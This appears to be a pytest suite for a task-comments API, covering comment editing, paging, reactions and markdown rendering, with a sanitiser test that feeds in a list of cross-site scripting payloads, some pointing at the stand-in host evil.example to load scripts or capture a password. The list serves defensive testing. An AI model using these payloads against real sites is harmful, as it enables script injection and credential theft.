"""/api/v1/tasks/{id}/comments: what people say about a task, as they wrote it and as HTML that is safe."""

import re
from typing import Any

import pytest

from service import markdown
from tests.http.conftest import Api, problem


def path(task: int, rest: object = "") -> str:
    return f"/api/v1/tasks/{task}/comments/{rest}".rstrip("/")


async def said(api: Api, task: int, body: str) -> dict[str, Any]:
    response = await api.post(path(task), json={"body": body})
    assert response.status == 201, await response.text()
    return await response.json()


async def read(api: Api, where: str, **parameters: Any) -> dict[str, Any]:
    response = await api.get(where, params=parameters)
    assert response.status == 200, await response.text()
    return await response.json()


async def test_a_comment_is_written_changed_and_deleted(api: Api) -> None:
    task = await api.task()

    made = await said(api, task, f"  *One* for @{api.user['username']}\n")
    response = await api.patch(path(task, made["id"]), json={"body": "two"})
    changed = await response.json()
    versions = await read(api, path(task, f"{made['id']}/versions"))
    gone = await (await api.delete(path(task, made["id"]))).json()

    assert (made["body"], made["mentions"]) == (f"  *One* for @{api.user['username']}\n", [api.user["id"]])
    assert (made["author_id"], made["author"]) == (api.user["id"], api.user["username"])
    assert (changed["body"], changed["version"], changed["mentions"]) == ("two", 2, [])
    assert [version["body"] for version in versions["items"]] == [made["body"], "two"]
    assert gone == {
        "id": made["id"], "task_id": task, "workspace_id": api.user["workspace_id"],
        "revision": made["revision"] + 2,
    }  # fmt: skip
    left = await read(api, path(task, made["id"]), format="html")
    assert left["body"] is left["body_html"] is None
    assert left["deleted_at"]
    assert await read(api, path(task, f"{made['id']}/versions")) == {"items": []}


async def test_comments_come_in_pages(api: Api) -> None:
    task = await api.task()
    ids = [(await said(api, task, str(number)))["id"] for number in range(3)]

    first = await read(api, path(task), limit=2)
    second = await read(api, path(task), limit=2, after=first["next_after"])

    assert [[comment["id"] for comment in page["items"]] for page in (first, second)] == [ids[:2], ids[2:]]
    assert (first["has_more"], second["has_more"], second["next_after"]) == (True, False, ids[2])
    assert "body_html" not in first["items"][0]


async def test_a_writer_reads_its_own_comment_and_an_entity_tag_tells_of_others(api: Api) -> None:
    task = await api.task()
    await said(api, task, "one")

    before = await api.get(path(task))
    again = await api.get(path(task), headers={"If-None-Match": before.headers["ETag"]})
    await said(api, task, "two")
    after = await api.get(path(task), headers={"If-None-Match": before.headers["ETag"]})

    assert (again.status, after.status) == (304, 200)
    assert [comment["body"] for comment in (await after.json())["items"]] == ["one", "two"]


async def test_a_comment_arrives_by_itself_without_what_it_says(api: Api) -> None:
    task = await api.task()
    made = await said(api, task, "needle")

    changes = await read(api, "/api/v1/changes", task_id=task, after=made["revision"] - 1, wait=10)

    (change,) = changes["items"]
    assert (change["entity"], change["action"], change["task_id"]) == ("comment", "insert", task)
    assert change["new_row"] == {"comment_id": made["id"], "version": 1}


@pytest.mark.parametrize(
    "body", [{}, {"body": ""}, {"body": None}, {"body": 1}, {"body": "x" * 16_001}, {"body": "\x00"}]
)
async def test_a_body_that_is_none_is_refused(api: Api, body: dict[str, Any]) -> None:
    await problem(await api.post(path(await api.task()), json=body), 422, "invalid_request")


async def test_a_blank_one_is_refused_too(api: Api) -> None:
    await problem(await api.post(path(await api.task()), json={"body": " \n"}), 422, "invalid_comment")


async def test_a_comment_that_is_not_there_is_not_found(api: Api) -> None:
    task, other = await api.task(), await api.task()
    made = await said(api, other, "elsewhere")

    for number in (made["id"], made["id"] + 10**6):
        await problem(await api.get(path(task, number)), 404, "comment_not_found")
        await problem(await api.delete(path(task, number)), 404, "comment_not_found")


async def test_html_is_given_where_it_is_asked_for(api: Api) -> None:
    task = await api.task()
    made = await said(api, task, "**b** [l](https://example.org)")
    html = '<p><strong>b</strong> <a href="https://example.org" rel="nofollow noopener">l</a></p>\n'

    listed = await read(api, path(task), format="html")
    shown = await read(api, path(task, made["id"]), format="html")

    assert listed["items"][0]["body_html"] == shown["body_html"] == html
    assert shown["body"] == "**b** [l](https://example.org)"


async def test_people_react_to_a_comment_and_take_it_back(api: Api) -> None:
    task = await api.task()
    made = await said(api, task, "Done?")
    rocket = path(task, f"{made['id']}/reactions/rocket")

    first, again = [await (await api.put(rocket)).json() for _ in range(2)]
    listed = await read(api, path(task))
    gone, twice = [await (await api.delete(rocket)).json() for _ in range(2)]

    told = [{"kind": "rocket", "emoji": "\U0001f680", "user_ids": [api.user["id"]]}]
    assert first["reactions"] == again["reactions"] == listed["items"][0]["reactions"] == told
    assert gone["reactions"] == twice["reactions"] == []
    assert [answer["revision"] - made["revision"] for answer in (first, again, gone, twice)] == [1, 1, 2, 2]


async def test_another_reaction_is_refused(api: Api) -> None:
    task = await api.task()
    made = await said(api, task, "Done?")

    await problem(await api.put(path(task, f"{made['id']}/reactions/nope")), 422, "invalid_request")


# Each tries to run a script, to load something or to leave its place in the page.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<iframe src=javascript:alert(1)>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=position:fixed>x</div>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<b/onclick=alert(1)//<!",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\x01script:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](/api/v1/users/me)",
    "[x](//evil.example)",
    "[x](#top)",
    '[x](http://a"onmouseover=alert(1))',
    "[x](http://a 'onmouseover=alert(1)')",
    '[x](http://a "t" onmouseover="alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<http://a"onclick=alert(1)>',
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](http://a)',
    "![<script>alert(1)</script>](http://a)",
    '![x](http://a"onerror=alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](javascript:alert(1))](http://a)",
    "[![<b onclick=alert(1)>](http://a)](http://b)",
    "```<script>\nalert(1)\n```",
    '```"onclick=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "\x3cscript>alert(1)</script>",
    "</p></article><h1>out</h1>",
    "*<b*onclick=alert(1)>",
    "[<img src=x onerror=alert(1)>](http://a)",
    "\u202e<script>",
]
ALLOWED = re.compile(
    r"</?(?:blockquote|code|em|h[1-6]|li|ol|p|pre|s|strong|ul)>|<[bh]r>|</a>"
    r'|<code class="[^"<>]*">|<ol start="\d+">'
    r'|<a href="(?:https?:|mailto:)[^"<>]*"(?: title="[^"<>]*")? rel="nofollow noopener">'
    r'|<a(?: title="[^"<>]*")? rel="nofollow noopener">'
)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_do_harm_stays_text(text: str) -> None:
    for put in (text, f"> - {text}", f"**{text}**", f"a\n\n{text}\n\nb"):
        for html in (markdown.html(put), markdown.plain(put)):
            assert "<" not in ALLOWED.sub("", html), html


LINK = '<a href="http://b.c" rel="nofollow noopener">'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# a\n\n- b\n- ~~c~~", "<h1>a</h1>\n<ul>\n<li>b</li>\n<li><s>c</s></li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("```py\n<a>\n```", '<pre><code class="language-py">&lt;a&gt;\n</code></pre>\n'),
        ("![a](http://b.c)", f"<p>{LINK}a</a></p>\n"),
        ("![](http://b.c) **!**", f"<p>{LINK}http://b.c</a> <strong>!</strong></p>\n"),
        (
            "![*a* [x](http://d) <b>][y]\n\n[y]: http://b.c 't'",
            '<p><a href="http://b.c" title="t" rel="nofollow noopener">a x &lt;b&gt;</a></p>\n',
        ),
        ("[![a](http://d.e/f.png)](http://b.c) ![g](http://b.c)", f"<p>{LINK}a</a> {LINK}g</a></p>\n"),
        ("[x ![](http://d.e/f.png)](http://b.c)", f"<p>{LINK}x http://d.e/f.png</a></p>\n"),
        (
            "![a](javascript:alert) ![b](/c)",
            '<p>![a](javascript:alert) <a rel="nofollow noopener">b</a></p>\n',
        ),
        ("a  \nb\n\n---", "<p>a<br>\nb</p>\n<hr>\n"),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    assert markdown.html(text) == html


@pytest.mark.parametrize(
    "text",
    [
        ">" * 16_000,
        "- " * 8_000,
        "1. " * 5_000,
        "*" * 16_000,
        "[" * 16_000,
        "![" * 8_000,
        "[a](" * 4_000,
        "![](a)" * 2_600,
    ],
)
def test_nesting_is_bounded(text: str) -> None:
    html = markdown.html(text)

    assert max(html.count("<blockquote>"), html.count("<ul>"), html.count("<ol>")) <= 20
    assert len(html) <= 10 * len(text)


async def test_when_the_time_is_over_text_is_shown_plain(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SECONDS", -1.0)

    assert await markdown.htmls(["**<b>**", None]) == ["<pre>**&lt;b&gt;**</pre>", None]
